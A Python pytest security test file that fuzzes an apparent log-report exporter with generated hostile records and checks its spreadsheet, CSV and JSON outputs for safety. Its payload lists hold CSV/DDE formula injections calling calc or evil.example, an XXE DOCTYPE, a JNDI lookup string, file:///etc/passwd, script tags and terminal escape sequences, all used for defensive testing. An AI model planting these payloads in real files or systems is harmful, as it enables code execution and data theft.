"""2,000 records made to break a report, through every form of it: none is lost, none runs, none leads anywhere."""

import csv
import io
import json
import os
import random
import re
import subprocess
import sys
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.security

COUNT = 2_000
FORMS = ("xlsx", "csv", "json", "jsonl")
STARTS = set("=+-@＝＋－＠")
HOSTS = {"www.virustotal.com", "www.abuseipdb.com", "ipinfo.io"}
TEXTS = [
    "\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\u202egnp.exe", "\u2066x\u2069", "\ud800",
    "\udcff\udc80", "a\x00b",
    "\x00", "\r\nforged line", "a\tb", "\x85", "\u2028", "\ufeff", "\ufffe\uffff", "".join(map(chr, range(32))), "\x7f\x9b31m",
    "\U000e0041",
    "=1+1", "+1", "-1", "@SUM(1)", "＝1+1", "＋1", "－1", "＠x", "\t=1", "\r=1", " =1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example")', "{=1+1}", "a;=cmd", 'a;"=cmd', "a|=cmd", "a,=cmd", 'a","=cmd', "a\n=cmd", '";=cmd;"',
    ";@x", "a;;=x",
    "<script>alert(1)</script>", "<b>x</b>&amp;", "[link=http://evil.example]x[/link]", "<r><t>x</t></r>", "<r></r>",
    "</t></is></c><c><f>1</f></c>",
    "]]>", "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;", "_x0041_", "_x005F_x0041_", "_x000D_=1", "&G", "&[Picture]", "%s%n", "{0}",
    "${jndi:ldap://x}",
    "http://evil.example/", "mailto:x@evil.example", "file:///etc/passwd", "internal:Legend!A1",
    "external:\\\\evil.example\\x", "javascript:alert(1)",
    "NaN", "inf", "1e999", "TRUE", "#REF!", "007", "😀" * 100, "\U0001f468\u200d\U0001f469", "Z̷̧a͜l" * 30, "", " ", "'", '"',
    "'=1", '"=1', "中文",
]  # fmt: skip
LONG_TEXTS = ["a" * 40_000, "😀" * 20_000, "\x1b" * 20_000, "=" * 33_000, "_x0041_" * 5_000, '";=' * 11_000, "<r>" * 11_000]
TIMES = [
    "0001-01-01T00:00:00Z", "0001-01-01T00:00:00.000001Z", "1899-12-31T23:59:59Z", "1900-02-28T12:00:00Z", "1969-12-31T23:59:59Z",
    "9999-12-31T23:59:59.999999Z", "2025-02-28T23:59:59+14:00", "2025-07-10T17:42:01Z",
]  # fmt: skip
ADDRESSES = [
    "203.0.113.9", "2001:db8::1", "8.8.8.8", "::ffff:8.8.8.8", "64:ff9b::808:808", "fe80::1%eth0", "2001:4860::1%x",
    "10.0.0.1", "0.0.0.0", "::", "",
    "evil.example", "8.8.8.8/../../x", "8.8.8.8?x", "8.8.8.8 || tcp", "=1+1", "1" * 500, "\x1b[0m", "256.1.1.1", "ff02::1",
    "240.0.0.1", "0x7f.1",
]  # fmt: skip
NUMBERS = [0, 1, 2**31, 2**53, 2**53 + 1, 10**15, 2**63 - 1, 2**64 - 1]
TRANSPORTS = ["tcp", "udp", "sctp", "icmp", "raw:253", "raw:999", "packet", "=1", "tcp || udp", "\x1b", "", "raw:-1"]


def hostile(number: int, chance: random.Random) -> dict[str, Any]:
    """Make a record, by its number one of a kind; what its texts say is not."""

    def text() -> str:
        return TEXTS[number % len(TEXTS)] if chance.random() < 0.5 else chance.choice(TEXTS)

    def time() -> str:
        return chance.choice(TIMES)

    begin, end = sorted((time(), time()))
    return {
        "kind": "connection", "id": f"r{number}", "revision": chance.randrange(9), "@timestamp": time(),
        "event": {"action": chance.choice(["connect", "close", "failed", "traffic"]), "start": begin, "end": end},
        "host": {"name": text(), "id": text()},
        "network": {"transport": chance.choice(TRANSPORTS), "direction": "egress", "scope": "public"},
        "source": {"ip": chance.choice(ADDRESSES), "port": chance.choice([0, 65535]), "bytes": chance.choice(NUMBERS)},
        "destination": {
            "ip": chance.choice(ADDRESSES), "address": chance.choice(ADDRESSES), "port": chance.choice([0, 443, 65535]), "domain": text(),
            "bytes": chance.choice(NUMBERS), "service": text(), "geo": {"country_iso_code": text()},
            "as": {"number": chance.choice(NUMBERS), "organization": {"name": text()}},
        },
        "process": {
            "pid": number, "entity_id": f"e{number}", "name": text(), "executable": text(), "args": [text(),
            chance.choice(TEXTS + LONG_TEXTS)],
            "hash": {"sha256": text()}, "working_directory": text(), "parent": {"pid": 1, "name": chance.choice([*TEXTS,
            LONG_TEXTS[number % 7]])},
        },
        "user": {"id": text(), "name": text()}, "container": {"id": text(), "name": text()},
        "outwatch": {
            "sensor": text(), "subject": text(), "count": chance.choice([1, 2, 2**53, 2**64 - 1]), "open_files": [text(), text()],
            "names": [{"name": text(), "origin": "sni", "confirmed": False}, {"name": text(), "origin": "ptr"}],
            "reputation": [
                {"provider": "virustotal", "state": chance.choice(["malicious", "clean", "not_checked"]), "why": text(),
                 "score": chance.choice([0, -1, 1e308, 5e-324, 0.1]), "checked_at": time(), "link": "https://evil.example/"},
                {"provider": "abuseipdb", "state": "no_data", "why": text(), "link": text()},
            ],
        },
    }  # fmt: skip


def spelled(record: dict[str, Any]) -> bytes:
    """Spell a record as JSON; every other one with its lone surrogates as the bytes that they may have been."""
    if record["process"]["pid"] % 2:
        return json.dumps(record).encode()
    return json.dumps(record, ensure_ascii=False).encode("utf-8", "surrogatepass")


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Report on the hostile records in every form."""
    folder = tmp_path_factory.mktemp("hostile", numbered=True)
    chance = random.Random(7)
    recording = folder / "recorded.jsonl"
    recording.write_bytes(b"".join(spelled(hostile(number, chance)) + b"\n" for number in range(COUNT)))
    written = {}
    for form in FORMS:
        written[form] = folder / f"r.{form}"
        command = [sys.executable, "-W", "error", "-m", "outwatch", "report", "--from", str(recording)]
        command += ["--all", "--files", "-o", str(written[form])]
        environment = {**os.environ, "HOME": str(folder), "XDG_CONFIG_HOME": str(folder), "OUTWATCH_STATE_DIR": str(folder / "state")}
        done = subprocess.run(command, capture_output=True, env=environment, cwd=folder, timeout=120, check=False)
        assert done.returncode == 0, done.stderr.decode()[-2000:]
        said = done.stderr.decode()
        assert "Traceback" not in said
        assert "recorded.jsonl:" not in said, "a line was taken for broken"
        assert not [character for character in said if unicodedata.category(character) in {"Cc", "Cf"} and character != "\n"]
    return written


def numbers(values: Iterator[Any]) -> list[int]:
    return sorted(int(value) for value in values)


def test_no_row_is_lost_in_the_workbook_and_none_is_a_formula_or_a_link_of_its_own(reports: dict[str, Path]) -> None:
    book = load_workbook(reports["xlsx"])
    table = book["Connections"]
    headings = [cell.value for cell in table[1]]
    pid = headings.index("PID")
    assert numbers(row[pid] for row in table.iter_rows(min_row=2, values_only=True)) == list(range(COUNT))
    links = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.value.isprintable(), cell.coordinate
                    assert cell.value.lstrip()[:1] not in STARTS or cell.quotePrefix
                if cell.hyperlink:
                    links += 1
                    to = urlsplit(str(cell.hyperlink.target))
                    assert (to.scheme, to.netloc in HOSTS, to.query, to.fragment) == ("https", True, "", "")
                    assert re.fullmatch(r"/(gui/ip-address/|check/)?[0-9a-f.:]+", to.path)
    assert links > 500


def test_no_part_of_the_workbook_file_leads_elsewhere_or_breaks(reports: dict[str, Path]) -> None:
    with zipfile.ZipFile(reports["xlsx"]) as book:
        assert book.testzip() is None
        for name in book.namelist():
            part = book.read(name).decode("utf-8")
            assert "<f>" not in part
            assert "<f " not in part
            assert "<!DOCTYPE" not in part
            for target in re.findall(r'Target="([^"]*)" TargetMode="External"', part):
                assert urlsplit(target).netloc in HOSTS


@pytest.mark.parametrize("delimiter", list(",;\t|"))
@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE], ids=["with quotes", "without"])
def test_no_reader_of_the_csv_finds_a_formula_whatever_it_splits_at(reports: dict[str, Path], delimiter: str, quoting: Any) -> None:
    csv.field_size_limit(1 << 24)
    with reports["csv"].open(encoding="utf-8", newline="") as file:
        table = list(csv.reader(file, delimiter=delimiter, quoting=quoting))
    assert len(table) == COUNT + 1
    for row in table:
        for field in row:
            assert field.lstrip()[:1] not in STARTS or re.fullmatch(r"-?\d+(\.\d+)?(e[+-]\d+)?", field), field[:80]


def test_the_csv_has_a_line_for_each_row_and_nothing_in_it_acts_on_a_terminal(reports: dict[str, Path]) -> None:
    text = reports["csv"].read_bytes().decode("utf-8")
    assert text.count("\n") == text.count("\r\n") == COUNT + 1
    assert all(line.isprintable() for line in text.split("\r\n"))
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    assert numbers(row["PID"] for row in rows) == list(range(COUNT))
    for row in rows:
        assert None not in row, "more cells than columns"
        for cell in row.values():
            assert len(cell.encode("utf-16-le")) // 2 < 33_000 + cell.count("'")


def test_the_lines_are_a_record_each_and_hold_every_row(reports: dict[str, Path]) -> None:
    lines = reports["jsonl"].read_bytes().decode("utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert [record["kind"] for record in records] == ["connection"] * COUNT + ["summary"]
    assert numbers(record["process"]["pid"] for record in records[:-1]) == list(range(COUNT))
    for line in lines:
        assert not re.search("[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]", line)


def test_the_document_is_one_of_json_and_holds_the_same_as_the_lines(reports: dict[str, Path]) -> None:
    document = json.loads(reports["json"].read_bytes())
    lines = [json.loads(line) for line in reports["jsonl"].read_bytes().splitlines()]
    assert document["records"] == lines[:-1]
    assert document["summary"].keys() == lines[-1].keys()


def test_nobody_who_was_not_asked_is_shown_green(reports: dict[str, Path]) -> None:
    table = load_workbook(reports["xlsx"])["Connections"]
    headings = [cell.value for cell in table[1]]
    seen = 0
    for row in table.iter_rows(min_row=2):
        for heading in ("VT Score", "AbuseIPDB Score"):
            cell = row[headings.index(heading)]
            if isinstance(cell.value, str) and cell.value.startswith(("not checked", "no data")):
                seen += 1
                assert cell.fill.fill_type is None
    assert seen > COUNT
